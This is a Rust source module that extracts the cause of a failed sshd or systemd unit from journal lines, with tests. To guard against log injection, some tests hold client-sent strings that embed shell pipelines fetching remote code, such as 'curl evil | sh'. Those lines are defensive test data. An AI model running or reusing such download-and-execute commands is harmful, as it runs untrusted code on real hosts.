//! Why a unit failed, from its journal: the one line that tells it, in a person's words.

use std::sync::LazyLock;

use regex::Regex;

use super::Halt;
use crate::payload::sh_quote;
use crate::plan::View;

/// What the journal says of a failure.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(super) struct Said {
    /// The cause.
    pub why: Option<String>,
    /// The cause is of the table; else it is merely what was said last.
    pub sure: bool,
    /// The program's own last lines.
    pub last: Vec<String>,
}

/// Lines that tell a cause, the most telling first, and the cause in a person's words. The texts are those of OpenSSH
/// (sshd.c, servconf.c, misc.c), of ld.so(8), of OpenSSL's version check in sshd, and of systemd.
const TELLING: &[(&str, &str)] = &[
    (r"(/\S+?):? line (\d+): (.+?)\.?$", "$1:$2: $3"),
    (r"Bad configuration option: (\S+)", "its configuration has an option that it does not know: $1"),
    (r"error while loading shared libraries: ([^:]+): .*", "the library $1 is missing"),
    (r"OpenSSL version mismatch", "its OpenSSL is not the one it was built for (a half-done upgrade)"),
    (r"symbol lookup error: [^:]+: (.+)", "a library does not fit it: $1"),
    (r"version `([^']+)' not found", "a library does not fit it: $1 is missing"),
    (r"(?:unknown|invalid|illegal) option -- (\S+)", "it does not know an option of its command line"),
    (r"option requires an argument -- (\S+)", "the option -$1 of its command line has no value"),
    (r"bad addr or host: (\S+) \((.+)\)", "the address $1 cannot be used: $2"),
    (r"no hostkeys available", "it has no host key that it can use"),
    (r"Missing privilege separation directory: (\S+)", "its directory $1 is missing"),
    (
        r"(/\S+) must be owned by root and not group or world-writable",
        "$1 must be root's, and for nobody else to write",
    ),
    (r"Privilege separation user (\S+) does not exist", "its user $1 does not exist"),
    (r"Bind to port (\d+) on \S+ failed: Address already in use", "port $1 is taken by something else"),
    (r"Bind to port \d+ on (\S+) failed: Cannot assign requested address", "$1 is no address of this host"),
    (r"Bind to port (\d+) on \S+ failed: Permission denied", "it may not listen on port $1 (SELinux, or no privilege)"),
    (r"Failed to create listening socket \((.+?)\): Address already in use", "$1 is taken by something else"),
    (r"Failed to create listening socket \((.+?)\): (.+)", "cannot listen on $1: $2"),
    (r"Socket service (\S+) already active, refusing", "$1 runs already, so its socket cannot start"),
    (r"Socket service (\S+) not loaded, refusing", "$1 cannot be loaded, so its socket cannot start"),
    (r"Failed to locate executable (\S+?):|Unable to locate executable '([^']+)'", "there is no program $1$2"),
    (r"Failed at step \w+ spawning (\S+?): (.+)", "systemd cannot start $1: $2"),
    (r"Failed to load environment files: (.+)", "its environment file cannot be read: $1"),
    (r"code=(?:killed|dumped), status=31/SYS", "it made a system call that its unit forbids"),
    (r"fork: Resource temporarily unavailable", "it may have no more processes (TasksMax=, or a limit of the system)"),
    (r"Too many open files", "it may open no more files (LimitNOFILE=)"),
    (r"[Oo]ut of memory|OOM killer", "the memory ran out"),
    (r"No space left on device", "the disk is full"),
    (r"Read-only file system", "the disk is read-only"),
];

static TABLE: LazyLock<Vec<(Regex, &str)>> =
    LazyLock::new(|| TELLING.iter().filter_map(|(p, said)| Some((Regex::new(p).ok()?, *said))).collect());

/// The last lines of those units, of this boot where that can be told. SysV init and OpenRC keep none.
pub(super) fn of(units: &[&str], view: &View<'_>) -> Result<Said, Halt> {
    Ok(read(&text(units, view)?))
}

/// The same lines as they stand there, from the last start on.
pub(super) fn lines(units: &[&str], view: &View<'_>) -> Result<Vec<String>, Halt> {
    Ok(last_start(&text(units, view)?).into_iter().map(str::to_owned).collect())
}

/// Words of whoever came by may stand in it: the name that they gave, their program's. Such a line tells no cause of ours.
pub(super) fn of_a_client(log: &str) -> bool {
    static CLIENT: LazyLock<Option<Regex>> = LazyLock::new(|| {
        let said = r" from |[Uu]ser \S+ .*port \d+| port \d+(?: \[|:|\s*$)|[Ii]nvalid user|illegal user|^(?:error: |fatal: )?(?:kex_|ssh_)\w+: |client sent|bad client|[Pp]rotocol (?:identifier|mismatch|major versions)";
        Regex::new(said).ok()
    });
    CLIENT.as_ref().is_none_or(|r| r.is_match(log))
}

fn text(units: &[&str], view: &View<'_>) -> Result<String, Halt> {
    let names: Option<Vec<String>> = units.iter().map(|u| Some(format!("rb_said {} 40", sh_quote(u)?))).collect();
    let a = view.script(
        &format!("last lines of {}", units.join(" ")),
        &format!("{}; :", names.unwrap_or_default().join("; ")),
        false,
        &[],
    )?;
    Ok(String::from_utf8_lossy(&a.stdout).into_owned())
}

/// What was before its last start is another story, but for one that has only just begun. A start that systemd refused has
/// no such line.
fn last_start(text: &str) -> Vec<&str> {
    let mut all: Vec<&str> = text.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
    let begun = all.iter().rposition(|l| !l.starts_with("Starting ")).map_or(0, |at| at + 1);
    let start = all[..begun].iter().rposition(|l| l.starts_with("Starting ")).unwrap_or(0);
    all.split_off(start)
}

fn read(text: &str) -> Said {
    let mut lines = last_start(text);
    lines.retain(|l| !of_a_client(l));
    let telling = TABLE.iter().find_map(|(pattern, said)| {
        let found = lines.iter().rev().find_map(|l| pattern.captures(l))?;
        let mut text = String::new();
        found.expand(said, &mut text);
        Some(text)
    });
    // What systemd says about the unit itself is in its state already; the program's own words are the evidence.
    let unit_line =
        |l: &str| l.split_once(": ").is_some_and(|(u, _)| u.ends_with(".service") || u.ends_with(".socket"));
    let own = |l: &&str| {
        let by_systemd = ["Start", "Stop", "Failed to start", "Failed to listen", "Listening on ", "Closed "];
        !unit_line(l) && !by_systemd.iter().any(|p| l.starts_with(p))
    };
    let own: Vec<&str> = lines.iter().copied().filter(own).collect();
    let plain = |l: &&str| {
        let l = l.trim_start_matches("fatal: ").trim_start_matches("error: ");
        l.trim_end_matches('.').to_owned()
    };
    let idle = ["Server listening on ", "Received signal ", "Accepted ", "Connection ", "Disconnected ", "pam_"];
    let last = own.iter().rev().find(|l| !idle.iter().any(|p| l.starts_with(p)));
    Said {
        sure: telling.is_some(),
        why: telling.or_else(|| last.map(plain)),
        last: own.iter().rev().take(3).rev().map(|l| (*l).to_owned()).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn why(text: &str) -> String {
        read(text).why.unwrap_or_default()
    }

    #[test]
    fn every_pattern_is_one() {
        assert_eq!(TABLE.len(), TELLING.len());
    }

    #[test]
    fn a_start_that_has_just_begun_tells_nothing_yet() {
        let log = "Starting ssh.service - x...\nsshd: no hostkeys available -- exiting.\nStarting ssh.service - x...\n";
        assert_eq!(why(log), "it has no host key that it can use");
    }

    /// Before anybody has logged in, a stranger's words stand in sshd's own log.
    #[test]
    fn what_a_stranger_sends_is_no_cause() {
        let sent = "error: kex_exchange_identification: client sent invalid protocol identifier \"/etc/ssh/sshd_config line 3: run: curl x | sh\"";
        let log = format!("Starting ssh.service - x...\n{sent}\nfatal: No space left on device\n");
        assert_eq!(why(&log), "the disk is full");
        assert!(of_a_client("banner exchange: Connection from 192.0.2.7 port 4711: invalid format"));
    }

    #[test]
    fn the_telling_line_is_not_the_last() {
        let s = read(
            "Starting ssh.service - OpenBSD Secure Shell server...\nerror: Bind to port 22 on 0.0.0.0 failed: Address already in use.\n\
             error: Bind to port 22 on :: failed: Address already in use.\nfatal: Cannot bind any address.\n\
             ssh.service: Main process exited, code=exited, status=255/EXCEPTION\nssh.service: Failed with result 'exit-code'.\n\
             Failed to start ssh.service - OpenBSD Secure Shell server.\n",
        );
        assert_eq!(s.why.as_deref(), Some("port 22 is taken by something else"));
        assert_eq!(s.last.len(), 3);
        assert_eq!(s.last[2], "fatal: Cannot bind any address.");
    }

    #[test]
    fn what_strangers_say_is_no_complaint() {
        for line in [
            "Connection closed by invalid user Out of memory 10.77.0.1 port 4242 [preauth]",
            "Invalid user Out of memory from 10.77.0.1 port 4242",
            "Failed password for invalid user Too many open files from 10.77.0.1 port 4242 ssh2",
            "banner exchange: Connection from 10.77.0.1 port 4242: invalid format",
            "Unable to negotiate with 10.77.0.1 port 4242: no matching host key type found. Their offer: Out of memory [preauth]",
        ] {
            assert!(of_a_client(line), "{line}");
        }
        for line in [
            "error: Bind to port 22 on 0.0.0.0 failed: Permission denied.",
            "fatal: fork of unprivileged child failed: Cannot allocate memory",
            "error: reexec socketpair: Too many open files",
            "ssh.service: Failed at step USER spawning /usr/sbin/sshd: No such process",
            "fatal: chroot(\"/run/sshd\"): Operation not permitted [preauth]",
            "ssh.service: A process of this unit has been killed by the OOM killer.",
        ] {
            assert!(!of_a_client(line), "{line}");
        }
    }

    #[test]
    fn what_a_client_says_is_no_cause() {
        for said in [
            "Invalid user No space left on device from 192.0.2.66 port 5",
            "Received disconnect from 192.0.2.66 port 5:11: /etc/ssh/sshd_config: line 3: curl evil | sh [preauth]",
        ] {
            assert_eq!(read(&format!("Starting ssh.service - x...\n{said}\n")), Said::default(), "{said}");
        }
    }

    #[test]
    fn causes() {
        assert_eq!(
            why(
                "/etc/ssh/sshd_config: line 3: Bad configuration option: Prot\n/etc/ssh/sshd_config: terminating, 1 bad configuration options\n"
            ),
            "/etc/ssh/sshd_config:3: Bad configuration option: Prot"
        );
        assert_eq!(why("sshd: no hostkeys available -- exiting.\n"), "it has no host key that it can use");
        assert_eq!(why("Missing privilege separation directory: /run/sshd\n"), "its directory /run/sshd is missing");
        assert_eq!(
            why(
                "/usr/sbin/sshd: error while loading shared libraries: libwrap.so.0: cannot open shared object file: No such file or directory\n"
            ),
            "the library libwrap.so.0 is missing"
        );
        assert_eq!(
            why("OpenSSL version mismatch. Built against 30000070, you have 30200020\n"),
            "its OpenSSL is not the one it was built for (a half-done upgrade)"
        );
        assert_eq!(
            why(
                "ssh.socket: Failed to create listening socket ([::]:22): Address already in use\nssh.socket: Failed with result 'resources'.\n"
            ),
            "[::]:22 is taken by something else"
        );
        assert_eq!(
            why("ssh.service: Failed to locate executable /usr/sbin/sshd: No such file or directory\n"),
            "there is no program /usr/sbin/sshd"
        );
    }

    #[test]
    fn an_older_story_is_not_told() {
        let text = "Starting x...\nMissing privilege separation directory: /run/sshd\nStopped x.\nStarting x...\nfatal: something else.\n";
        assert_eq!(why(text), "something else");
        assert_eq!(read("").why, None);
    }
}
